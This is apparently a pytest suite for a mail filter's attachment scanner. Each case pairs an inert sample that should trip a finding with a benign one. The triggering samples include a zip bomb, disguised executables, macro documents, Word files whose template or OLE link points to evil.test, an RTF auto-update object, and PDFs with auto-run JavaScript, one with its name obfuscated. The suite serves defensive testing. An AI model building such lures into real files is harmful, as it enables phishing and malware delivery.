"""What is attached is looked into: each finding with a file that has it, and one that has not."""
import email.message
import io
import json
import struct
import subprocess
import zipfile

import pytest

from harness import ALICE, postern

RELATION = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" %s/></Relationships>')


def packed(**files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "."), content)
    return out.getvalue()


def locked(archive):
    """As if with a password: the flag is set, which is what can be seen."""
    archive = bytearray(archive)
    for signature, at in (b"PK\3\4", 6), (b"PK\1\2", 8):
        found = archive.find(signature)
        archive[found + at] |= 1
    return bytes(archive)


def document(kind="image", target="http://evil.test/x.png", external=True, **more):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                         'package/2006/content-types"/>')
        archive.writestr("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="x"/>')
        archive.writestr("word/_rels/document.xml.rels",
                         RELATION % (kind, target, 'TargetMode="External"' if external else ""))
        for name, content in more.items():
            archive.writestr(name.replace("__", "/").replace("_DOT_", "."), content)
    return out.getvalue()


def pdf(action):
    return (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + action + b" >>\nendobj\n2 0 obj\n"
            b"<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")


def iso():
    return bytes(32768) + b"\1CD001\1" + bytes(2041) + b"\xffCD001\1" + bytes(2041 + 8192)


def winmail(name, content):
    """As Outlook sends it."""
    def attribute(level, number, data):
        return struct.pack("<BII", level, number, len(data)) + data + struct.pack("<H", sum(data) & 0xffff)
    return (struct.pack("<IH", 0x223e9f78, 1) + attribute(1, 0x00089006, b"\0\0\1\0") + attribute(2, 0x00069002, bytes(14)) +
            attribute(2, 0x00018010, name + b"\0") + attribute(2, 0x0006800f, content))


PROGRAM = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(500)
CASES = [
    ("ATTACHMENT_PROGRAM", ("a.zip", packed(a__exe=PROGRAM)), ("a.zip", packed(a__txt=b"text"))),
    ("ATTACHMENT_PROGRAM", ("a.exe", PROGRAM), ("a.sh", b"#!/bin/sh\nexit\n")),
    ("ATTACHMENT_TYPE", ("bill.pdf", b"#!/bin/sh\nexit\n"), ("a.sh", b"#!/bin/sh\nexit\n")),
    ("ATTACHMENT_BLOCKED", ("a.zip", packed(a__vbs=b"x")), ("a.zip", packed(a__txt=b"x"))),
    ("ATTACHMENT_PROGRAM", ("winmail.dat", winmail(b"a.exe", PROGRAM)), ("winmail.dat", winmail(b"a.txt", b"text"))),
    ("ATTACHMENT_BLOCKED", ("winmail.dat", winmail(b"a.vbs", b"x")), ("winmail.dat", winmail(b"a.zip", packed(a__txt=b"x")))),
    ("ATTACHMENT_DOUBLE", ("a.zip", packed(a__pdf__exe=PROGRAM)), ("a.zip", packed(a__exe=PROGRAM))),
    ("ATTACHMENT_TYPE", ("bill.pdf", PROGRAM), ("bill.pdf", pdf(b""))),
    ("ATTACHMENT_IMAGE", ("a.iso", iso()), ("a.zip", packed(a__txt=b"x"))),
    ("ATTACHMENT_ENCRYPTED", ("a.zip", locked(packed(a__txt=b"secret"))), ("a.zip", packed(a__txt=b"secret"))),
    ("ATTACHMENT_NESTED", ("a.zip", packed(b__zip=packed(a__txt=b"x"))), ("a.zip", packed(a__txt=b"x"))),
    ("ATTACHMENT_BOMB", ("a.zip", packed(a__txt=bytes(80 * 1024 * 1024))), ("a.zip", packed(a__txt=bytes(1024 * 1024)))),
    ("ATTACHMENT_MACROS", ("a.docm", document(external=False, target="x.xml", word__vbaProject_DOT_bin=b"x" * 100)),
     ("a.docx", document(external=False, target="x.xml"))),
    ("ATTACHMENT_EXTERNAL", ("a.docx", document("oleObject", "http://evil.test/x")),
     ("a.docx", document("hyperlink", "http://good.test/x"))),
    ("ATTACHMENT_EXPLOIT", ("a.docx", document("attachedTemplate", "http://evil.test/x.dotm")),
     ("a.docx", document("hyperlink", "http://good.test/x"))),
    ("ATTACHMENT_EXPLOIT", ("a.rtf", b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}"),
     ("a.rtf", b"{\\rtf1 a text}")),
    ("ATTACHMENT_PDF_ACTIVE", ("a.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
     ("a.pdf", pdf(b"/OpenAction [2 0 R /Fit]"))),
    ("ATTACHMENT_PDF_DISGUISED", ("a.pdf", pdf(b"/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>")),
     ("a.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"))),
]


def letter(name, content):
    message = email.message.EmailMessage()
    message["From"], message["To"], message["Subject"] = "a@remote.test", ALICE, "The file"
    message.set_content("See there.")
    message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return message.as_bytes(policy=message.policy.clone(linesep="\r\n"))


def findings(tmp_path, name, content):
    path = tmp_path / "message.eml"
    path.write_bytes(letter(name, content))
    done = subprocess.run([postern.BINARY, "scan", "--json", "--no-dns", path], capture_output=True, timeout=120)
    return {finding["name"]: finding for finding in json.loads(done.stdout)["findings"]}


@pytest.mark.parametrize("name, has, has_not", CASES, ids=[f"{case[0]} {case[1][0]}" for case in CASES])
def test_found_where_it_is(tmp_path, name, has, has_not):
    found = findings(tmp_path, *has)
    assert name in found, list(found)
    assert found[name]["evidence"].startswith(has[0])
    assert name not in findings(tmp_path, *has_not)


def test_links_of_documents_count(tmp_path):
    """Where a document leads is part of what the message leads to; it is no link that is shown."""
    found = findings(tmp_path, "a.pdf", pdf(b"/OpenAction << /S /URI /URI (http://192.0.2.1/) >>"))
    assert "URI_ADDRESS" not in found


def test_in_the_server(make_server):
    """The filter's sandbox lets the inspection work."""
    server = make_server(settings={"filter": {"reject_at": 1000.0, "findings": [
        {"name": "ATTACHMENT_ENCRYPTED", "mode": "reject"}]}})
    with server.smtp() as client:
        client.ehlo()
        client.envelope()
        client.expect("DATA", "354 ")
        client.send(letter("a.zip", locked(packed(a__txt=b"secret"))) + b".\r\n")
        assert client.reply().matches("550 5.7.1 ")
        client.envelope()
        client.expect("DATA", "354 ")
        client.send(letter("a.zip", packed(a__txt=b"text")) + b".\r\n")
        assert client.reply().matches("250 ")
    assert "names alone" not in server.log()
